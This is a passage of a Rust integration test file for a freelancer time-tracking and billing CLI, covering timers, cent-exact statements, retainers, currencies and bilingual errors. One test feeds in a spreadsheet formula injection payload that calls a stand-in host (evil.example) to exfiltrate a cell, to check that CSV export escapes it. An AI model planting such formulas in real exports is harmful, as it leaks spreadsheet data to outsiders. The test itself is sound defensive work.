//! Time and money (SPEC 10) through the real binary, on real stores in temporary folders.

mod common;

/// Writes the desk's config file.
fn config(d: &Desk, text: &str) {
    let dir = d.dir.path().join("config").join("vadesk");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(dir.join("config.toml"), text).unwrap();
}

/// Takes a store back from schema step 24 (minutes as invoiced) to the step before, for the
/// tests that build an older store from a new one.
const UNDO_INVOICED_MINUTES: &str =
    "DROP TRIGGER time_sums_ins; DROP TRIGGER time_sums_upd; DROP TRIGGER time_sums_del;
     DROP TRIGGER time_sums_increment; DROP INDEX time_month;
     ALTER TABLE time_entries DROP COLUMN billed_min;
     CREATE INDEX time_month ON time_entries(start, client_id, minutes, billable, billed_on);";

use common::Desk;

fn count(db: &std::path::Path, sql: &str) -> i64 {
    let c = rusqlite::Connection::open(db).unwrap();
    c.query_row(sql, [], |r| r.get(0)).unwrap()
}

#[test]
fn one_timer_is_seen_by_every_process() {
    let mut d = Desk::new();
    d.at("2026-03-10 09:00");
    d.ok(&["client", "add", "Acme", "--rate", "40", "--increment", "15m"]);
    let t = d.ok(&["task", "add", "Acme", "Newsletter"]);
    let id = d.id(&["time", "start", &t]);
    // Another process, later: it sees the timer and stops it.
    d.at("2026-03-10 09:50");
    let out = d.ok(&["time", "stop"]);
    assert!(out.contains("Newsletter") && out.contains("50 min"), "{out}");
    let list = d.json(&["time", "list", "--json"]);
    assert_eq!(list[0]["id"], id);
    assert_eq!(list[0]["minutes"], 50);
    // Starting a timer stops the running one.
    d.id(&["time", "start", "--client", "Acme"]);
    d.at("2026-03-10 10:20");
    d.id(&["time", "start", &t, "--unbilled"]);
    assert_eq!(
        count(&d.db, "SELECT count(*) FROM time_entries WHERE minutes IS NULL"),
        1
    );
    assert_eq!(count(&d.db, "SELECT minutes FROM time_entries WHERE id = 2"), 30);
    // Past midnight: the review shows it and `stop` needs --at or --keep.
    d.at("2026-03-11 08:00");
    let review = d.json(&["review", "--json"]);
    assert_eq!(review["items"][0]["kind"], "timer_running");
    let (code, err) = d.fails(&["time", "stop"]);
    assert_eq!(code, 2);
    assert!(err.contains("--keep"), "{err}");
    d.ok(&["time", "stop", "--at", "2026-03-10 11:00"]);
    assert_eq!(count(&d.db, "SELECT minutes FROM time_entries WHERE id = 3"), 40);
    let (_, err) = d.fails(&["time", "stop"]);
    assert!(err.contains("no timer is running"), "{err}");
}

#[test]
fn statement_arithmetic_in_cents() {
    let mut d = Desk::new();
    d.at("2026-03-20 09:00");
    d.ok(&["client", "add", "Acme", "--rate", "40", "--increment", "15m"]);
    let t = d.ok(&["task", "add", "Acme", "Newsletter"]);
    d.ok(&["time", "log", &t, "50m", "--on", "2026-03-02 10:00"]);
    d.ok(&["time", "log", &t, "20m", "--on", "2026-03-03 10:00"]);
    d.ok(&[
        "time",
        "log",
        "--client",
        "Acme",
        "10m",
        "--unbilled",
        "--on",
        "2026-03-04 10:00",
    ]);
    d.ok(&["time", "log", &t, "1h", "--on", "2026-02-27 10:00"]);
    // Without `--on`, the work ended now (09:00): it began an hour and a half ago.
    let late = d.ok(&["time", "log", &t, "1h30m", "--unbilled"]);
    assert_eq!(
        count(
            &d.db,
            &format!("SELECT count(*) FROM time_entries WHERE id = {late} AND start = '2026-03-20 07:30'")
        ),
        1
    );
    d.ok(&["time", "delete", &late]);
    d.ok(&[
        "quote",
        "add",
        "Acme",
        "--amount",
        "100",
        "--prep",
        "30m",
        "--sent",
        "2026-03-05",
    ]);
    let s = d.json(&["statement", "Acme", "--month", "2026-03", "--json"]);
    assert_eq!(s["billable_minutes"], 70);
    assert_eq!(s["billed_minutes"], 90);
    assert_eq!(s["unbilled_minutes"], 10);
    assert_eq!(s["quote_prep_minutes"], 30);
    // 90 billed minutes at €40/h = €60.00; over 110 minutes spent = 3272.7 → 3273.
    assert_eq!(s["amount_cents"], 6000);
    assert_eq!(s["effective_rate_cents"], 3273);
    assert_eq!(s["entries"].as_array().unwrap().len(), 3);
    assert_eq!(s["entries"][0]["billed_minutes"], 60);
    let text = d.ok(&["statement", "Acme", "--month", "2026-03"]);
    assert!(text.contains("€60.00"), "{text}");
    let es = d.ok(&["--lang", "es", "statement", "Acme", "--month", "2026-03"]);
    assert!(es.contains("60,00 €"), "{es}");
    let csv = d.ok(&["statement", "Acme", "--month", "2026-03", "--csv"]);
    assert_eq!(
        csv.lines().next(),
        Some("date,client,task,minutes,billed_minutes,invoiced_minutes,billable,note")
    );
    assert_eq!(csv.lines().count(), 4);

    // Billing: a file 0600, then nothing billed twice, and billed entries need --force.
    let file = d.dir.path().join("march.txt");
    let f = file.to_str().unwrap();
    d.ok(&["statement", "Acme", "--month", "2026-03", "--out", f, "--mark-billed"]);
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        assert_eq!(std::fs::metadata(&file).unwrap().permissions().mode() & 0o777, 0o600);
    }
    d.fails(&["statement", "Acme", "--month", "2026-03", "--out", f]);
    d.fails(&["statement", "Acme", "--month", "2026-03", "--mark-billed"]);
    let after = d.json(&["statement", "Acme", "--month", "2026-03", "--json"]);
    assert_eq!(after["amount_cents"], 0);
    let (_, err) = d.fails(&["time", "delete", "1"]);
    assert!(err.contains("--force"), "{err}");
    d.fails(&["time", "edit", "1", "--minutes", "2h"]);
    assert_eq!(count(&d.db, "SELECT minutes FROM time_entries WHERE id = 1"), 50);
    d.ok(&["time", "edit", "1", "--minutes", "2h", "--force"]);
    // What was invoiced stays: the hour the correction added is still to invoice.
    let corrected = d.json(&["statement", "Acme", "--month", "2026-03", "--json"]);
    assert_eq!(corrected["amount_cents"], 4000);
    // A late entry in a billed month is invoiced on top.
    d.ok(&["time", "log", &t, "15m", "--on", "2026-03-06 10:00"]);
    let late = d.json(&["statement", "Acme", "--month", "2026-03", "--json"]);
    assert_eq!(late["amount_cents"], 5000);
}

#[test]
fn retainers_overage_and_the_month_for_every_client() {
    let mut d = Desk::new();
    d.at("2026-03-20 09:00");
    d.ok(&[
        "client",
        "add",
        "Ret",
        "--rate",
        "30",
        "--retainer",
        "10",
        "--fee",
        "300",
        "--overage-rate",
        "35",
    ]);
    d.ok(&["time", "log", "--client", "Ret", "6h40m", "--on", "2026-03-02 09:00"]);
    d.ok(&["time", "log", "--client", "Ret", "4h40m", "--on", "2026-03-03 09:00"]);
    let s = d.json(&["statement", "Ret", "--json"]);
    assert_eq!(s["retainer_minutes"], 600);
    assert_eq!(s["overage_minutes"], 80);
    // €300 + 80/60 × €35 = 30000 + 4666.7 → 34667 cents.
    assert_eq!(s["amount_cents"], 34667);
    let all = d.json(&["statement", "--all", "--json"]);
    assert_eq!(all["month"], "2026-03");
    assert_eq!(all["clients"][0]["amount_cents"], 34667);
    assert!(all["clients"][0].get("entries").is_none());
    let c = d.json(&["client", "show", "Ret", "--json"]);
    assert_eq!(c["retainer_hours"], 10.0);
    assert_eq!(c["fee_cents"], 30000);
    assert_eq!(c["rate_cents"], 3000);
    assert_eq!(c["rate"], 30.0);
    assert_eq!(c["month_minutes"], 680);
    // The closed month raises scope_creep (680 > 660 minutes).
    d.at("2026-04-01 09:00");
    let tick = d.json(&["tick", "--once", "--json"]);
    assert_eq!(tick["new_flags"][0]["kind"], "scope_creep");
}

#[test]
fn underpaying_comes_from_tracked_time_only() {
    let mut d = Desk::new();
    d.at("2026-03-20 09:00");
    let cfg = d.dir.path().join("config.toml");
    std::fs::write(&cfg, "min_rate = 25\n").unwrap();
    let c = cfg.to_str().unwrap();
    d.ok(&["client", "add", "Cheap", "--rate", "30"]);
    d.ok(&["client", "add", "Fine", "--rate", "30"]);
    d.ok(&["client", "add", "Silent", "--rate", "10"]);
    d.ok(&["task", "add", "Silent", "Estimated only", "--estimate", "10h"]);
    // Cheap: 2h billable + 1h unbilled in January = €60 over 3h = €20/h < €25.
    d.ok(&["time", "log", "--client", "Cheap", "2h", "--on", "2026-01-15 09:00"]);
    d.ok(&[
        "time",
        "log",
        "--client",
        "Cheap",
        "1h",
        "--unbilled",
        "--on",
        "2026-01-16 09:00",
    ]);
    d.ok(&["time", "log", "--client", "Fine", "2h", "--on", "2026-03-02 09:00"]);
    let tick = d.json(&["--config", c, "tick", "--once", "--json"]);
    let flags: Vec<(String, String)> = tick["new_flags"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| (f["client"].as_str().unwrap().into(), f["kind"].as_str().unwrap().into()))
        .collect();
    assert_eq!(flags, vec![("Cheap".to_string(), "underpaying".to_string())]);
}

#[test]
fn bad_input_is_refused_in_both_languages_and_changes_nothing() {
    let d = Desk::new();
    d.ok(&["client", "add", "Acme", "--rate", "40"]);
    let t = d.ok(&["task", "add", "Acme", "Newsletter"]);
    for lang in ["en", "es"] {
        for args in [
            vec!["time", "log", t.as_str(), "-5m"],
            vec!["time", "log", t.as_str(), "10000h"],
            vec!["time", "stop"],
            vec!["statement", "Acme", "--month", "2026-13"],
            vec!["client", "add", "X", "--currency", "EURO"],
            vec!["client", "add", "Y", "--retainer", "10"],
            vec!["client", "edit", "Acme", "--fee", "100"],
        ] {
            let mut a = vec!["--lang", lang];
            a.extend(args.iter().copied());
            let (code, err) = d.fails(&a);
            assert_eq!(code, 2, "{a:?}: {err}");
            if lang == "es" {
                assert!(!err.contains("invalid") && !err.contains("unknown"), "{a:?}: {err}");
            }
        }
    }
    assert_eq!(count(&d.db, "SELECT count(*) FROM time_entries"), 0);
    assert_eq!(count(&d.db, "SELECT count(*) FROM clients"), 1);
    assert_eq!(
        count(&d.db, "SELECT count(*) FROM clients WHERE fee_cents IS NOT NULL"),
        0
    );
}

#[test]
fn old_real_amounts_become_cents_without_losing_one() {
    for fixture in ["tests/fixtures/v1.db", "tests/fixtures/v2.db"] {
        let d = Desk::new();
        std::fs::copy(fixture, &d.db).unwrap();
        {
            let c = rusqlite::Connection::open(&d.db).unwrap();
            // Values a float cannot hold exactly.
            c.execute_batch(
                "UPDATE clients SET rate = 12.345 WHERE id = 3;
                 UPDATE clients SET rate = 0.1 + 0.2 WHERE id = 6;
                 UPDATE quotes SET amount = 1.005 WHERE id = 2;",
            )
            .unwrap();
        }
        d.ok(&["client", "list"]);
        let c = rusqlite::Connection::open(&d.db).unwrap();
        let rates: Vec<Option<i64>> = c
            .prepare("SELECT rate_cents FROM clients ORDER BY id")
            .unwrap()
            .query_map([], |r| r.get(0))
            .unwrap()
            .collect::<Result<_, _>>()
            .unwrap();
        assert_eq!(
            rates,
            vec![Some(2800), Some(3200), Some(1235), Some(3500), Some(3000), Some(30)],
            "{fixture}"
        );
        let amounts: Vec<i64> = c
            .prepare("SELECT amount_cents FROM quotes ORDER BY id")
            .unwrap()
            .query_map([], |r| r.get(0))
            .unwrap()
            .collect::<Result<_, _>>()
            .unwrap();
        assert_eq!(amounts, vec![45000, 101], "{fixture}");
    }
}

#[test]
fn a_quote_is_in_its_client_s_currency_everywhere_it_prints() {
    let d = Desk::new();
    d.ok(&["client", "add", "Hudson Dental", "--currency", "USD", "--rate", "40"]);
    d.ok(&["client", "add", "Tienda Sol"]);
    d.id(&[
        "quote",
        "add",
        "Hudson Dental",
        "--amount",
        "1250",
        "--for",
        "Bookkeeping",
        "--sent",
        "2026-11-02",
    ]);
    d.id(&["quote", "add", "Tienda Sol", "--amount", "300"]);
    let v = d.json(&["quote", "list", "--json"]);
    let by_client = |name: &str| {
        v.as_array()
            .unwrap()
            .iter()
            .find(|q| q["client"] == name)
            .cloned()
            .unwrap()
    };
    assert_eq!(by_client("Hudson Dental")["currency"], "USD");
    assert_eq!(by_client("Hudson Dental")["amount_cents"], 125_000);
    assert_eq!(
        by_client("Tienda Sol")["currency"],
        "EUR",
        "no currency of its own: the default"
    );
    let text = d.ok(&["quote", "list"]);
    assert!(text.contains("$1,250.00"), "{text}");
    assert!(text.contains("€300.00"), "{text}");
    assert!(!text.contains("€1,250.00"), "{text}");
    let ics = d.ok(&["calendar"]);
    // RFC 5545 escapes the comma in a text value.
    assert!(ics.contains("($1\\,250.00)"), "{ics}");
    let es = d.ok(&["--lang", "es", "quote", "list"]);
    assert!(es.contains("1250,00 $"), "{es}");
    // Unanswered past its date, it shows in the review in dollars too.
    let review = d.ok(&["review"]);
    assert!(review.contains("$1,250.00"), "{review}");
}

/// Amounts as a Spanish VA types them, as vadesk prints them (`12.500,00 €`): the dot groups
/// thousands. Nothing past two decimals is rounded away.
#[test]
fn amounts_typed_the_spanish_way_keep_their_thousands() {
    let mut d = Desk::new();
    d.at("2026-03-20 09:00");
    d.ok(&["client", "add", "Acme"]);
    d.ok(&["--lang", "es", "quote", "add", "acme", "--amount", "1.500"]);
    d.ok(&["--lang", "es", "quote", "add", "acme", "--amount", "12.500,50"]);
    d.ok(&["quote", "add", "acme", "--amount", "1,234.5"]);
    d.ok(&["client", "edit", "acme", "--rate", "37,5"]);
    let c = rusqlite::Connection::open(&d.db).unwrap();
    let amounts: Vec<i64> = c
        .prepare("SELECT amount_cents FROM quotes ORDER BY id")
        .unwrap()
        .query_map([], |r| r.get(0))
        .unwrap()
        .map(Result::unwrap)
        .collect();
    assert_eq!(amounts, [150_000, 1_250_050, 123_450]);
    let shown = d.ok(&["--lang", "es", "quote", "list", "--client", "acme"]);
    assert!(shown.contains("1500,00 €") && shown.contains("12.500,50 €"), "{shown}");
    // Three decimals are refused, in both languages, and nothing is saved.
    for (lang, typed, says) in [
        ("es", "1.234,567", "dos decimales como mucho"),
        ("en", "12.3456", "at most two decimals"),
        ("en", "0.500", "at most two decimals"),
    ] {
        let (code, err) = d.fails(&["--lang", lang, "quote", "add", "acme", "--amount", typed]);
        assert_eq!(code, 2, "{err}");
        assert!(err.contains(says) && err.contains(typed), "{err}");
    }
    assert_eq!(count(&d.db, "SELECT count(*) FROM quotes"), 3);
    assert_eq!(count(&d.db, "SELECT rate_cents FROM clients"), 3750);
}

/// A task moved to another client takes its time along (its statements follow it), unless
/// some of that time is billed already: then it stays, and nothing changes.
#[test]
fn a_task_moved_to_another_client_takes_its_time_unless_billed() {
    let mut d = Desk::new();
    d.at("2026-03-20 09:00");
    d.ok(&["client", "add", "Pixel", "--rate", "40"]);
    d.ok(&["client", "add", "Bloom", "--rate", "30"]);
    let t = d.ok(&["task", "add", "Pixel", "Logo"]);
    d.ok(&["time", "log", &t, "1h", "--on", "2026-03-02 10:00"]);
    d.ok(&["time", "log", &t, "30m", "--on", "2026-03-03 10:00"]);
    d.ok(&["task", "edit", &t, "--client", "Bloom"]);
    assert_eq!(count(&d.db, "SELECT count(*) FROM time_entries WHERE client_id = 2"), 2);
    let bloom = d.json(&["statement", "Bloom", "--month", "2026-03", "--json"]);
    assert_eq!(bloom["billable_minutes"], 90, "{bloom}");
    let pixel = d.json(&["statement", "Pixel", "--month", "2026-03", "--json"]);
    assert_eq!(pixel["billable_minutes"], 0, "{pixel}");
    // Billed on Bloom's statement: the task stays with Bloom.
    let out = d
        .cmd()
        .args([
            "--lang",
            "es",
            "statement",
            "Bloom",
            "--month",
            "2026-03",
            "--mark-billed",
        ])
        .output()
        .unwrap();
    assert!(out.status.success());
    let said = String::from_utf8_lossy(&out.stderr);
    assert!(said.contains("2 entradas marcadas como facturadas"), "{said}");
    let (code, err) = d.fails(&["task", "edit", &t, "--client", "Pixel", "--title", "Logo v2"]);
    assert_eq!(code, 2, "{err}");
    assert!(err.contains("'Logo' has time already billed to Bloom"), "{err}");
    assert_eq!(count(&d.db, "SELECT client_id FROM tasks"), 2);
    assert_eq!(count(&d.db, "SELECT count(*) FROM tasks WHERE title = 'Logo'"), 1);
    assert_eq!(count(&d.db, "SELECT count(*) FROM time_entries WHERE client_id = 2"), 2);
    // The kept month sums followed the entries.
    assert_eq!(
        count(
            &d.db,
            "SELECT billable_min FROM time_sums WHERE client_id = 2 AND month = '2026-03'"
        ),
        90
    );
    assert_eq!(count(&d.db, "SELECT count(*) FROM time_sums WHERE client_id = 1"), 0);
}

#[test]
fn one_entry_billed_is_said_in_the_singular() {
    let mut d = Desk::new();
    d.at("2026-03-20 09:00");
    d.ok(&["client", "add", "Acme", "--rate", "40"]);
    d.ok(&["time", "log", "--client", "Acme", "1h", "--on", "2026-03-02 10:00"]);
    let out = d.cmd().args(["statement", "Acme", "--mark-billed"]).output().unwrap();
    assert!(out.status.success());
    let said = String::from_utf8_lossy(&out.stderr);
    assert!(said.contains("1 entry marked as billed on 2026-03-20"), "{said}");
}

/// Time logged that would begin before 1900 (two hours ending at 00:30 on 1 January 1900) is
/// refused: every export imports again.
#[test]
fn logged_time_stays_within_the_years_kept() {
    let mut d = Desk::new();
    d.at("1900-01-01 00:30");
    d.ok(&["client", "add", "Acme"]);
    let (code, err) = d.fails(&["time", "log", "--client", "Acme", "2h"]);
    assert_eq!(code, 2, "{err}");
    assert!(err.contains("1899-12-31 22:30"), "{err}");
    assert_eq!(count(&d.db, "SELECT count(*) FROM time_entries"), 0);
    d.ok(&["time", "log", "--client", "Acme", "30m"]);
}

/// A timer stopped within its first minute leaves no empty entry, and says so; undo brings the
/// timer back.
#[test]
fn a_timer_stopped_within_its_first_minute_logs_nothing() {
    let mut d = Desk::new();
    d.at("2026-03-10 09:00");
    d.ok(&["client", "add", "Acme"]);
    d.ok(&["time", "start", "--client", "Acme"]);
    let said = d.ok(&["time", "stop"]);
    assert!(
        said.contains("within its first minute") && said.contains("nothing logged"),
        "{said}"
    );
    assert_eq!(count(&d.db, "SELECT count(*) FROM time_entries"), 0);
    let es = {
        d.ok(&["time", "start", "--client", "Acme"]);
        d.ok(&["--lang", "es", "time", "stop"])
    };
    assert!(es.contains("no se registra nada"), "{es}");
    assert_eq!(count(&d.db, "SELECT count(*) FROM time_entries"), 0);
    // A minute later it is an entry as always.
    d.ok(&["time", "start", "--client", "Acme"]);
    d.at("2026-03-10 09:01");
    assert!(d.ok(&["time", "stop"]).contains("1 min"));
    assert_eq!(count(&d.db, "SELECT count(*) FROM time_entries WHERE minutes = 1"), 1);
}

/// Logged time is time worked: an entry that would end after now is refused, saying when it
/// would end and what to do; one ending exactly now is logged.
#[test]
fn time_that_would_end_after_now_is_refused() {
    let d = Desk::new();
    d.ok(&["client", "add", "Ana"]);
    let (_, err) = d.fails(&["time", "log", "--client", "Ana", "30m", "--on", "2026-12-05 10:00"]);
    assert!(
        err.contains("would end at Sat 5 Dec 10:30, after now (Mon 23 Nov 09:00)"),
        "{err}"
    );
    let (_, err) = d.fails(&["time", "log", "--client", "Ana", "30m", "--on", "2026-11-23 08:31"]);
    assert!(err.contains("after now"), "{err}");
    let (_, err) = d.fails(&[
        "--lang",
        "es",
        "time",
        "log",
        "--client",
        "Ana",
        "2h",
        "--on",
        "today 08:00",
    ]);
    assert!(
        err.contains("terminaría el lun 23 nov 10:00, después de ahora"),
        "{err}"
    );
    assert_eq!(count(&d.db, "SELECT count(*) FROM time_entries"), 0);
    let id = d.ok(&["time", "log", "--client", "Ana", "30m", "--on", "2026-11-23 08:30"]);
    let id = id.trim();
    assert_eq!(count(&d.db, "SELECT count(*) FROM time_entries"), 1);
    // Nor can an entry be moved or lengthened past now.
    let (_, err) = d.fails(&["time", "edit", id, "--on", "2026-11-24 08:00"]);
    assert!(err.contains("would end at Tue 24 Nov 08:30, after now"), "{err}");
    let (_, err) = d.fails(&["time", "edit", id, "--minutes", "45m"]);
    assert!(err.contains("would end at Mon 23 Nov 09:15, after now"), "{err}");
    assert_eq!(
        count(
            &d.db,
            "SELECT count(*) FROM time_entries WHERE start = '2026-11-23 08:30' AND minutes = 30"
        ),
        1
    );
    d.ok(&["time", "edit", id, "--on", "2026-11-20 08:00", "--minutes", "2h"]);
}

#[test]
fn a_zero_decimal_currency_refuses_a_fraction_instead_of_rounding_it() {
    let mut d = Desk::new();
    d.at("2026-03-10 09:00");
    // Typed with a fraction: refused, naming the currency, in both languages; nothing stored.
    let (code, err) = d.fails(&["client", "add", "Tanaka", "--currency", "JPY", "--rate", "1500.5"]);
    assert_eq!(code, 2);
    assert!(err.contains("JPY has no decimals") && err.contains("1500.5"), "{err}");
    let (_, err) = d.fails(&[
        "--lang",
        "es",
        "client",
        "add",
        "Tanaka",
        "--currency",
        "jpy",
        "--rate",
        "1500,5",
    ]);
    assert!(
        err.contains("JPY no tiene decimales") && err.contains("1500,5"),
        "{err}"
    );
    assert_eq!(count(&d.db, "SELECT count(*) FROM clients"), 0);
    // Whole amounts, and thousands grouped, are kept as typed.
    d.ok(&["client", "add", "Tanaka", "--currency", "JPY", "--rate", "1.500"]);
    assert_eq!(count(&d.db, "SELECT rate_cents FROM clients"), 150_000);
    // The client's currency applies to its fee, overage rate and quotes.
    let (_, err) = d.fails(&["client", "edit", "Tanaka", "--retainer", "10", "--fee", "30000.25"]);
    assert!(err.contains("JPY has no decimals"), "{err}");
    let (_, err) = d.fails(&["client", "edit", "Tanaka", "--overage-rate", "2000.5"]);
    assert!(err.contains("JPY has no decimals"), "{err}");
    let (_, err) = d.fails(&["quote", "add", "Tanaka", "--amount", "20000.5"]);
    assert!(err.contains("20000.5"), "{err}");
    let q = d.ok(&["quote", "add", "Tanaka", "--amount", "20000"]);
    let (_, err) = d.fails(&["quote", "edit", &q, "--amount", "3.3"]);
    assert!(err.contains("JPY has no decimals"), "{err}");
    assert_eq!(count(&d.db, "SELECT amount_cents FROM quotes"), 2_000_000);
    // A client whose amounts have cents cannot turn into yen with them rounded.
    d.ok(&["client", "add", "Acme", "--rate", "40.50"]);
    let (_, err) = d.fails(&["client", "edit", "Acme", "--currency", "JPY"]);
    assert!(err.contains("JPY has no decimals") && err.contains("40.5"), "{err}");
    assert_eq!(
        count(&d.db, "SELECT count(*) FROM clients WHERE currency IS NOT NULL"),
        1
    );
    // With the new rate given at once, whole, it does.
    d.ok(&["client", "edit", "Acme", "--currency", "JPY", "--rate", "6000"]);
    // The euro keeps its cents.
    d.ok(&["client", "add", "Bloom", "--rate", "37.5"]);
    assert_eq!(
        count(&d.db, "SELECT rate_cents FROM clients WHERE name = 'Bloom'"),
        3750
    );
}

#[test]
fn a_retainer_used_past_its_hours_is_used_up_not_nearly() {
    let mut d = Desk::new();
    d.at("2026-03-20 09:00");
    d.ok(&[
        "client",
        "add",
        "Bloom",
        "--retainer",
        "10",
        "--fee",
        "400",
        "--rate",
        "40",
    ]);
    d.ok(&["time", "log", "--client", "Bloom", "9h30m", "--on", "2026-03-02 09:00"]);
    let out = d.ok(&["review"]);
    assert!(
        out.contains("Retainer nearly used up") && out.contains("(95%)"),
        "{out}"
    );
    assert_eq!(d.json(&["review", "--json"])["items"][0]["kind"], "retainer_near");
    // 230% of it: used up, in both languages, and its own kind in JSON.
    d.ok(&["time", "log", "--client", "Bloom", "13h30m", "--on", "2026-03-03 09:00"]);
    let out = d.ok(&["review"]);
    assert!(out.contains("Retainer used up") && out.contains("(230%)"), "{out}");
    assert!(!out.contains("nearly"), "{out}");
    let out = d.ok(&["--lang", "es", "review"]);
    assert!(out.contains("Bono agotado") && !out.contains("casi"), "{out}");
    let json = d.json(&["review", "--json"]);
    assert_eq!(json["items"][0]["kind"], "retainer_used_up");
    assert_eq!(json["items"][0]["title"], "23h 00m / 10h 00m (230%)");
}

#[test]
fn a_running_timer_s_start_is_not_moved_to_another_day() {
    let mut d = Desk::new();
    d.at("2026-03-20 09:00");
    d.ok(&["client", "add", "Acme", "--rate", "40"]);
    let id = d.ok(&["time", "start", "--client", "Acme"]);
    let (code, err) = d.fails(&["time", "edit", &id, "--on", "2026-03-18 10:00"]);
    assert_eq!(code, 2);
    assert!(
        err.contains(&format!(
            "time entry {id} is the timer running on Acme since Fri 20 Mar 09:00"
        )) && err.contains("Stop it first"),
        "{err}"
    );
    let (_, err) = d.fails(&["--lang", "es", "time", "edit", &id, "--on", "2026-03-18 10:00"]);
    assert!(
        err.contains("desde el vie 20 mar 09:00") && err.contains("Páralo primero"),
        "{err}"
    );
    assert_eq!(
        count(
            &d.db,
            "SELECT count(*) FROM time_entries WHERE start = '2026-03-20 09:00' AND minutes IS NULL"
        ),
        1
    );
    // Its note and billability still change while it runs.
    d.ok(&["time", "edit", &id, "--note", "calls", "--unbilled"]);
    // Stopped, the entry's start is corrected like any other's.
    d.at("2026-03-20 10:00");
    d.ok(&["time", "stop"]);
    d.ok(&["time", "edit", &id, "--on", "2026-03-18 10:00"]);
    assert_eq!(
        count(
            &d.db,
            "SELECT count(*) FROM time_entries WHERE start = '2026-03-18 10:00' AND minutes = 60"
        ),
        1
    );
}

/// A statement's CSV never hands a spreadsheet a formula: a task title, note or client name
/// that starts like one (as a Trello card's title can) starts with an apostrophe.
#[test]
fn a_statement_csv_carries_no_formula() {
    let mut d = Desk::new();
    d.at("2026-03-20 09:00");
    d.ok(&["client", "add", "Acme", "--rate", "40"]);
    d.ok(&["client", "add", "@Home"]);
    let t = d.id(&[
        "task",
        "add",
        "Acme",
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
    ]);
    d.ok(&[
        "time",
        "log",
        &t.to_string(),
        "1h",
        "--on",
        "2026-03-10 10:00",
        "--note",
        "+1 call; -2 notes",
    ]);
    d.ok(&[
        "time",
        "log",
        "--client",
        "@Home",
        "30m",
        "--on",
        "2026-03-11 10:00",
        "--note",
        "plain",
    ]);
    let csv = d.ok(&["statement", "Acme", "--month", "2026-03", "--csv"]);
    assert!(
        csv.contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\""),
        "{csv}"
    );
    assert!(csv.contains(",'+1 call; -2 notes"), "{csv}");
    let all = d.ok(&["statement", "--all", "--month", "2026-03", "--csv"]);
    assert!(all.contains("\n'@Home,2026-03,"), "{all}");
    assert!(all.contains("\nAcme,2026-03,"), "{all}");
}

#[test]
fn a_retainer_fee_is_owed_from_the_client_s_month_and_not_once_it_ended() {
    let mut d = Desk::new();
    d.at("2026-11-23 09:00");
    d.ok(&[
        "client",
        "add",
        "Ret",
        "--rate",
        "30",
        "--retainer",
        "10",
        "--fee",
        "120",
    ]);
    // Before the client was added: no fee anywhere, and the statement says why.
    for month in ["2020-01", "2026-10"] {
        let all = d.json(&["statement", "--all", "--month", month, "--json"]);
        assert_eq!(all["clients"].as_array().unwrap().len(), 0, "{month}: {all}");
        let one = d.json(&["statement", "Ret", "--month", month, "--json"]);
        assert_eq!(one["amount_cents"], 0, "{month}");
        assert_eq!(one["retainer_minutes"], 0, "{month}");
        let csv = d.ok(&["statement", "--all", "--month", month, "--csv"]);
        assert_eq!(csv.lines().count(), 1, "{csv}");
    }
    let text = d.ok(&["statement", "Ret", "--month", "2026-10"]);
    assert!(text.contains("no retainer fee: Ret was added on"), "{text}");
    // From its month on: the fee, the same in every form.
    for month in ["2026-11", "2026-12"] {
        let one = d.json(&["statement", "Ret", "--month", month, "--json"]);
        assert_eq!(one["amount_cents"], 12000, "{month}");
        let all = d.json(&["statement", "--all", "--month", month, "--json"]);
        assert_eq!(all["clients"][0]["amount_cents"], 12000, "{month}");
        let csv = d.ok(&["statement", "--all", "--month", month, "--csv"]);
        assert!(csv.lines().nth(1).unwrap().contains(",12000,"), "{csv}");
    }
    // Ended (the database does not know since when): no fee, said so; one statement and all
    // of them agree, with its time still at its hourly rate.
    d.ok(&["time", "log", "--client", "Ret", "1h", "--on", "2026-11-02 09:00"]);
    d.ok(&["client", "edit", "Ret", "--status", "ended"]);
    let one = d.json(&["statement", "Ret", "--month", "2026-12", "--json"]);
    assert_eq!(one["amount_cents"], 0);
    let all = d.json(&["statement", "--all", "--month", "2026-12", "--json"]);
    assert_eq!(all["clients"].as_array().unwrap().len(), 0, "{all}");
    let one = d.json(&["statement", "Ret", "--month", "2026-11", "--json"]);
    assert_eq!(one["amount_cents"], 3000);
    let all = d.json(&["statement", "--all", "--month", "2026-11", "--json"]);
    assert_eq!(all["clients"][0]["amount_cents"], 3000, "{all}");
    let text = d.ok(&["statement", "Ret", "--month", "2026-12"]);
    assert!(text.contains("the status of Ret is ended"), "{text}");
    d.ok(&["client", "edit", "Ret", "--status", "active"]);
    let all = d.json(&["statement", "--all", "--month", "2026-11", "--json"]);
    assert_eq!(all["clients"][0]["amount_cents"], 12000, "{all}");
}

#[test]
fn a_client_whose_quote_has_cents_cannot_turn_into_a_currency_without_decimals() {
    let mut d = Desk::new();
    d.at("2026-11-23 09:00");
    d.ok(&["client", "add", "E", "--rate", "10"]);
    let q = d.ok(&["quote", "add", "E", "--amount", "99.99", "--sent", "today"]);
    let before = d.snapshot();
    let (code, err) = d.fails(&["client", "edit", "E", "--currency", "JPY"]);
    assert_eq!(code, 2);
    assert!(
        err.contains("JPY has no decimals") && err.contains(&format!("quote {q} has cents (99.99)")),
        "{err}"
    );
    let (_, err) = d.fails(&["--lang", "es", "client", "edit", "E", "--currency", "JPY"]);
    assert!(
        err.contains(&format!("el presupuesto {q} tiene céntimos (99,99)")),
        "{err}"
    );
    assert_eq!(d.snapshot(), before, "nothing changed");
    // The retainer fee and the overage rate are named the same way.
    d.ok(&["client", "add", "F", "--retainer", "10", "--fee", "300.50"]);
    let (_, err) = d.fails(&["client", "edit", "F", "--currency", "JPY"]);
    assert!(err.contains("the retainer fee has cents (300.5)"), "{err}");
    d.ok(&[
        "client",
        "add",
        "G",
        "--retainer",
        "10",
        "--fee",
        "300",
        "--overage-rate",
        "35.25",
    ]);
    let (_, err) = d.fails(&["client", "edit", "G", "--currency", "JPY"]);
    assert!(err.contains("the overage rate has cents (35.25)"), "{err}");
    // Made whole first, the change goes through and the quote keeps its amount.
    d.ok(&["quote", "edit", &q, "--amount", "100"]);
    d.ok(&["client", "edit", "E", "--currency", "JPY"]);
    assert_eq!(count(&d.db, "SELECT amount_cents FROM quotes"), 10_000);
}

#[test]
fn a_scope_creep_flag_goes_with_the_time_that_raised_it_and_names_its_month() {
    let mut d = Desk::new();
    d.at("2026-10-01 09:00");
